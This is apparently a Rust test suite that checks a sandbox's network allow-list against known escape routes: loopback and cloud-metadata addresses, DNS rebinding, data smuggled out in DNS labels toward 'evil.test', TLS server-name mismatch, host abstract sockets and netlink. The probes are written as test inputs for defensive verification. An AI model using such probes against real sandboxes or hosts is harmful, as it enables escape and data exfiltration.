//! The failures of other sandboxes' networks that are not repeated here: what an allow-list of others let through.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};

use crate::rules::{NAME, allow, allow_only, python, told};
use crate::servers::{self, Authority, Trap};
use crate::support::Project;
use crate::world::{METADATA, PORT, PRIVATE, PRIVATE_V6, PUBLIC, PUBLIC_V6, World};

// --- fail closed ---------------------------------------------------------------------------------------------------

/// An empty allow-list that allows everything: CVE-2025-66479.
#[test]
fn an_empty_list_allows_nothing() {
    need!(Sandbox);
    need!(Ipv6);
    let traps = [Trap::new(Ipv4Addr::LOCALHOST.into()), Trap::new(Ipv6Addr::LOCALHOST.into())];
    let code = format!(
        "print(try_tcp('127.0.0.1', {}), try_tcp('::1', {}), try_tcp('192.0.2.1', 80), try_tcp('2001:db8::1', 80), \
         try_udp('192.0.2.1', 53), attempt(socket.gethostbyname, 'example.org'))",
        traps[0].port(),
        traps[1].port()
    );
    for config in [
        "",
        "[network]",
        "[network]\nallow = []",
        "[network]\n# allow = ['example.org:443']\nallow = [\n# 'a.test:1'\n]",
    ] {
        let told = python(&Project::new().config(config), &code).reached_nothing();
        let said: Vec<_> = told.ended.stdout.split_whitespace().collect();
        assert_eq!(said[..2], ["ECONNREFUSED", "ECONNREFUSED"], "{config:?}: {:?}", told.ended);
        assert!(said[2..5].iter().all(|one| ["ENETUNREACH", "ECONNREFUSED"].contains(one)), "{config:?}: {said:?}");
        assert!(said[5].starts_with("EAI_"), "{config:?}: {said:?}");
    }
    assert!(traps.iter().all(Trap::is_untouched));
}

/// A rule that can't be read matches everything: nsjail.
#[test]
fn a_rule_that_can_not_be_read_stops_the_run() {
    need!(Sandbox);
    let configs = [
        "[network]\nallow = ['']",
        "[network]\nallow = ['localhost:443']",
        "[network]\nallow = ['*:443']",
        "[network]\nallow = ['10.0.0.300/8:80']",
        "[network]\nallow = ['example.org']",
        "[network]\nallow = ['example.org:0']",
        "[network]\nallow = [\"a.test\\u0000.example.org:443\"]",
        "[network]\nalow = ['example.org:443']",
        "[netwrok]\nallow = ['example.org:443']",
        "[network]\nallow = 'example.org:443'",
    ];
    for config in configs {
        let ended = Project::new().config(config).run(["echo", "it ran"]).end();
        assert_eq!((ended.code, ended.stdout.as_str()), (125, ""), "{config:?}: {ended:?}");
    }
}

// --- addresses -----------------------------------------------------------------------------------------------------

/// The host's own servers, at whatever address: slirp's gateway, CVE-2021-20199.
#[test]
fn the_host_is_not_reached() {
    need!(Sandbox);
    need!(Program("ip"));
    need!(Ipv6);
    let world = World::new(&allow_only(&["public.test:1"]), &[&format!("public.test={PUBLIC}")]);
    let addresses = [
        "127.0.0.1",
        "127.1.2.3",
        "::1",
        "0.0.0.0",
        "::",
        "::ffff:127.0.0.1",
        PUBLIC,
        PUBLIC_V6,
        PRIVATE,
        PRIVATE_V6,
        METADATA,
        "10.0.2.2",
        "192.168.127.1",
        "198.18.0.1",
        "198.18.0.2",
        "198.18.1.0",
        "2001:2::1",
        "64:ff9b::7f00:1",
    ];
    let code =
        format!("for address in {addresses:?}: print(address, try_tcp(address, {PORT}), try_udp(address, {PORT}))");
    let in_world = world.python(&code);
    let refused = |line: &&str| line.split(' ').skip(1).all(|word| ["ECONNREFUSED", "ENETUNREACH"].contains(&word));
    let others: Vec<_> = in_world.told.ended.stdout.lines().filter(|line| !refused(line)).collect();
    assert!(others.is_empty(), "{others:#?} {:?}", in_world.told.ended);
    assert_eq!(in_world.told.ended.stdout.lines().count(), addresses.len(), "{:?}", in_world.told.ended);
    assert_eq!(in_world.said, "", "something reached the host's server");
    in_world
        .told
        .reached_nothing()
        .blocks_address(PUBLIC, PORT)
        .blocks_address(METADATA, PORT)
        .blocks_address(PRIVATE_V6, PORT);
}

/// The world itself: the server is there, by every address, for one that is allowed.
#[test]
fn addresses_by_number_are_rules_of_their_own() {
    need!(Sandbox);
    need!(Program("ip"));
    need!(Ipv6);
    let entries = [
        format!("{PUBLIC}:{PORT}"),
        format!("[{PUBLIC_V6}]:{PORT}"),
        format!("10.0.0.0/8:{PORT}"),
        format!("udp:{METADATA}:{PORT}"),
    ];
    let config = format!("[network]\nallow = {entries:?}");
    let code = format!(
        "for address in {:?}: print(try_tcp(address, {PORT}), try_udp(address, {PORT}), try_tcp(address, {PORT} + 1))",
        [PUBLIC, PUBLIC_V6, PRIVATE, METADATA, PRIVATE_V6]
    );
    let in_world = World::new(&config, &[]).python(&code);
    // For so many addresses one listener takes the port at all of them, and breaks off what is not allowed.
    let tcp = "hello ECONNREFUSED ECONNREFUSED\n";
    let expected =
        format!("{tcp}{tcp}{tcp}ECONNRESET udp hello ECONNREFUSED\nECONNREFUSED ECONNREFUSED ECONNREFUSED\n");
    let told = in_world.told.prints(&expected);
    assert_eq!(told.connections().len(), 4, "{:#}", told.report);
    told.blocks_address(PUBLIC, PORT + 1).blocks_address(METADATA, PORT).blocks_address(PRIVATE_V6, PORT);
}

/// An allowed name's address by number, and its other ports: fake-address capture that leaves them open.
#[test]
fn a_name_allows_neither_its_address_nor_other_ports() {
    need!(Sandbox);
    need!(Program("ip"));
    need!(Ipv6);
    let config = allow_only(&[&format!("public.test:{PORT}")]);
    let world = World::new(&config, &[&format!("public.test={PUBLIC},{PUBLIC_V6}")]);
    let code = format!(
        "print(try_tcp('public.test', {PORT}), try_tcp('{PUBLIC}', {PORT}), try_tcp('{PUBLIC_V6}', {PORT}))\n\
         print(try_tcp('public.test', 22), try_udp('public.test', 443), try_udp('public.test', {PORT}))\n\
         print(attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))\n\
         print(attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW))"
    );
    let in_world = world.python(&code);
    let told =
        in_world.told.prints("hello ECONNREFUSED ECONNREFUSED\nECONNREFUSED ECONNREFUSED ECONNREFUSED\nEPERM\nEPERM\n");
    assert_eq!(in_world.said, "tcp\necho\n");
    let rule = "udp:public.test:443";
    told.blocks(rule, Some(rule), |one| one["name"] == "public.test" && one["port"] == 443)
        .blocks_address(PUBLIC, PORT);
}

// --- names ---------------------------------------------------------------------------------------------------------

/// DNS rebinding, and metadata by a name: what an allowed name may not lead to.
#[test]
fn an_allowed_name_does_not_lead_to_the_host_s_own_networks() {
    need!(Sandbox);
    need!(Program("ip"));
    need!(Ipv6);
    let addresses = [
        "127.0.0.1",
        "::1",
        "::ffff:127.0.0.1",
        "0.0.0.0",
        "::",
        PRIVATE,
        METADATA,
        PRIVATE_V6,
        "fe80::1",
        "64:ff9b::7f00:1",
    ];
    let names: Vec<_> = addresses.iter().enumerate().map(|(index, one)| format!("n{index}.bad.test={one}")).collect();
    let names: Vec<_> = names.iter().map(String::as_str).chain(["good.bad.test=93.184.215.14"]).collect();
    let config = format!("[network]\nallow = ['*.bad.test:{PORT}', 'own.test:{PORT}']");
    let code = format!(
        "for number in range({}): print(try_tcp(f'n{{number}}.bad.test', {PORT}))\n\
         print(try_tcp('own.test', {PORT}))\nprint(try_tcp('good.bad.test', {PORT}))",
        addresses.len()
    );
    let in_world = World::new(&config, &names).python(&code);
    let lines: Vec<_> = in_world.told.ended.stdout.lines().collect();
    assert_eq!(lines.len(), addresses.len() + 2, "{:?}", in_world.told.ended);
    for (address, line) in addresses.iter().chain(&["own.test, of /etc/hosts"]).zip(&lines) {
        assert!(["ECONNREFUSED", "ECONNRESET", "EPIPE"].contains(line), "{address}: {line}");
    }
    assert_eq!(lines[addresses.len() + 1], "hello");
    assert_eq!(in_world.said, "tcp\necho\n", "something else reached the server");
    for (number, address) in addresses.iter().enumerate() {
        let name = format!("n{number}.bad.test");
        let is_it = |one: &&serde_json::Value| one["name"] == name.as_str() && one["port"] == PORT;
        assert_eq!(in_world.told.blocked().iter().filter(is_it).count(), 1, "{address}: {:#}", in_world.told.report);
        assert!(in_world.told.ended.stderr.contains(&format!("sbx: blocked {name}")), "{:?}", in_world.told.ended);
    }
}

/// The answer that was checked is the one that is dialled, and each connection's is checked anew.
#[test]
fn a_name_that_changes_its_address_is_checked_each_time() {
    need!(Sandbox);
    need!(Program("ip"));
    need!(Ipv6);
    let config = format!("[network]\nallow = ['flip.test:{PORT}']");
    let code = format!("print(try_tcp('flip.test', {PORT}))\nfor _ in range(3): print(try_tcp('flip.test', {PORT}))");
    let in_world = World::new(&config, &[&format!("flip.test={PUBLIC}/127.0.0.1")]).python(&code);
    assert_eq!(in_world.told.ended.stdout.lines().next(), Some("hello"), "{:?}", in_world.told.ended);
    assert_eq!(in_world.said, "tcp\necho\n");
    // Of several addresses, the ones that may be dialled are.
    let config = format!("[network]\nallow = ['mixed.test:{PORT}']");
    let code = format!("print(try_tcp('mixed.test', {PORT}))");
    let in_world = World::new(&config, &[&format!("mixed.test=127.0.0.1,10.1.2.3,{PUBLIC}")]).python(&code);
    let told = in_world.told.prints("hello\n");
    assert!(told.connections().iter().all(|one| one["address"] == PUBLIC), "{:#}", told.report);
}

/// A pin says where a name is, against every resolver; only a pinned one may be the host itself.
#[test]
fn a_pin_wins_and_may_be_private() {
    need!(Sandbox);
    need!(Program("ip"));
    need!(Ipv6);
    let config = format!("[network]\nallow = ['pinned.test:{PORT}']\nhosts = {{ 'pinned.test' = '{PRIVATE}' }}");
    let code = format!("print(try_tcp('pinned.test', {PORT}))");
    let in_world = World::new(&config, &["pinned.test=93.184.215.14"]).python(&code);
    let told = in_world.told.ok().prints("hello\n");
    assert_eq!(told.connections()[0]["address"], PRIVATE);
    assert_eq!(in_world.asked, "", "a pinned name is not looked up");
}

/// Data in the labels of names: nothing that is not allowed is ever looked up outside.
#[test]
fn names_carry_nothing_out() {
    need!(Sandbox);
    need!(Program("ip"));
    need!(Ipv6);
    let config = format!("[network]\nallow = ['public.test:{PORT}', '*.wild.test:{PORT}']");
    let code = format!(
        r#"
secret = "c2VjcmV0"
for name in [secret + ".evil.test", secret + ".public.test", secret + ".wild.test.evil.test", secret, secret + ".wild.test"]:
    print(attempt(socket.getaddrinfo, name, 80) in ("EAI_NONAME", "EAI_AGAIN"))
for kind in [1, 16, 12, 255]:
    ask_dns(question(secret + ".evil.test", kind))
print(try_tcp("public.test", {PORT}))
"#
    );
    let in_world = World::new(&config, &[&format!("public.test={PUBLIC}")]).python(&code);
    let told = in_world.told.prints("True\nTrue\nTrue\nTrue\nFalse\nhello\n");
    let strangers: Vec<_> = in_world.asked.lines().filter(|name| *name != "public.test").collect();
    assert!(strangers.is_empty(), "asked for outside: {strangers:?}");
    assert!(!in_world.asked.is_empty(), "the name server is the one that is asked");
    told.blocks_name("c2vjcmv0.evil.test").blocks_name("c2vjcmv0.public.test");
}

// --- TLS -----------------------------------------------------------------------------------------------------------

/// An allowed host's address used under another name: the ClientHello says whom the command means.
#[test]
fn a_server_name_that_is_not_the_allowed_one_is_cut_off() {
    need!(Sandbox);
    need!(Program("openssl"));
    let authority = Authority::new(NAME);
    let project = Project::new();
    let site = project.beside("site");
    std::fs::create_dir(&site).expect("a directory");
    std::fs::write(site.join("hello"), "hello").expect("a file");
    let (cert, key) = (authority.path("cert.pem"), authority.path("key.pem"));
    let server = servers::web(&site, ["--tls", &cert, &key]);
    let project = project.config(&allow(server.port));
    let port = server.port;
    let tls = |name: &str, tail: &str| {
        format!(
            r#"
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
def hello(name):
    with context.wrap_socket(connect("{NAME}", {port}), server_hostname=name) as tls:
        tls.sendall(b"GET /hello HTTP/1.0\r\n\r\n")
        return read_all(tls)[-5:].decode()
def pieces(name, size):
    """A ClientHello in pieces, and whether the server answered."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(into, out, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    connection, record = connect("{NAME}", {port}), out.read()
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for at in range(0, len(record), size):
        connection.sendall(record[at : at + size])
        time.sleep(0.01)
    return "answer" if connection.recv(100) else "EOF"
print({name}, {tail})
"#
        )
    };
    let matching =
        tls(&format!("attempt(hello, '{NAME}')"), &format!("attempt(hello, None), attempt(pieces, '{NAME}', 50)"));
    python(&project, &matching).ok().prints("hello hello answer\n").reached(port);
    for name in ["other.test", "xserver.test", "server.test.evil", "evil.server.test"] {
        let told =
            python(&project, &tls(&format!("attempt(hello, '{name}')"), &format!("attempt(pieces, '{name}', 50)")));
        let said: Vec<_> = told.ended.stdout.split_whitespace().collect();
        assert_eq!(said.len(), 2, "{:?}", told.ended);
        assert!(!said.contains(&"hello") && !said.contains(&"answer"), "{name}: {:?}", told.ended);
        let (whom, rule) = (format!("{NAME}:{port}"), format!("{name}:{port}"));
        let is_it = |one: &serde_json::Value| {
            one["name"] == NAME && one["reason"].as_str().is_some_and(|why| why.contains(name))
        };
        let told = told.blocks(&whom, Some(&rule), is_it);
        // The server has not even seen the greeting.
        assert!(told.connections().iter().all(|one| one["sent"] == 0 && one["received"] == 0), "{:#}", told.report);
    }
}

// --- other ways ----------------------------------------------------------------------------------------------------

/// Abstract sockets of the host: CVE-2020-15257.
#[test]
fn abstract_sockets_of_the_host_are_not_there() {
    need!(Sandbox);
    let name = format!("sbx-test-{}", std::process::id());
    let address = SocketAddr::from_abstract_name(&name).expect("a name");
    let listener = UnixListener::bind_addr(&address).expect("an abstract socket");
    listener.set_nonblocking(true).expect("a flag");
    let code = format!(
        "print(attempt(socket.socket(socket.AF_UNIX).connect, '\\0{name}'), open('/proc/net/unix').read().count('{name}'))"
    );
    python(&Project::new().config(&allow(80)), &code).ok().prints("ECONNREFUSED 0\n");
    assert!(listener.accept().is_err(), "somebody came");
}

/// What carries the connections is not inside: no process, no descriptor, no capability, no interface but `lo`.
#[test]
fn nothing_of_the_relay_is_inside() {
    need!(Sandbox);
    let script = "ls /proc/self/fd | tr '\\n' ' '; ls -d /proc/[0-9]* | wc -l; grep -c : /proc/net/dev; \
                  grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | grep -vc 0000000000000000";
    let none = told(&Project::new(), script);
    let rules = told(&Project::new().config(&allow(80)), script);
    assert_eq!(rules.ended.stdout, none.ended.stdout);
    assert!(rules.ended.stdout.starts_with("0 1 2 3 "), "{:?}", rules.ended);
    // The command can't take the addresses and routes apart.
    let code = r#"
netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
for kind, body in [(20, struct.pack("BBBBI", 2, 32, 0, 0, 1)), (25, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0))]:
    netlink.send(struct.pack("IHHII", 16 + len(body), kind, 5, 1, 0) + body)
    print(errno.errorcode[-struct.unpack("i", netlink.recv(1000)[16:20])[0]])
"#;
    python(&Project::new().config(&allow(80)), code).prints("EPERM\nEPERM\n");
}

/// The host's addresses of the machine at hand, whatever they are.
#[test]
fn the_machine_s_own_addresses_are_not_reached() {
    need!(Sandbox);
    need!(Program("ip"));
    need!(Ipv6);
    let project = Project::new();
    let shown = project.command("ip").args(["-o", "addr", "show", "scope", "global"]).ok().stdout;
    let addresses = shown.lines().filter_map(|line| line.split_whitespace().nth(3)?.split('/').next()?.parse().ok());
    let traps: Vec<(IpAddr, Trap)> = addresses
        .chain(["127.0.0.1", "::1"].map(|one| one.parse().expect("an address")))
        .map(|one| (one, Trap::new(one)))
        .collect();
    let targets: Vec<_> = traps.iter().map(|(address, trap)| (address.to_string(), trap.port())).collect();
    let code = format!("for target in {targets:?}: print(try_tcp(*target))");
    let told = python(&project.config(&allow(80)), &code).reached_nothing();
    assert_eq!(told.ended.stdout, "ECONNREFUSED\n".repeat(targets.len()), "{targets:?}: {:?}", told.ended);
    assert!(traps.iter().all(|(_, trap)| trap.is_untouched()));
}
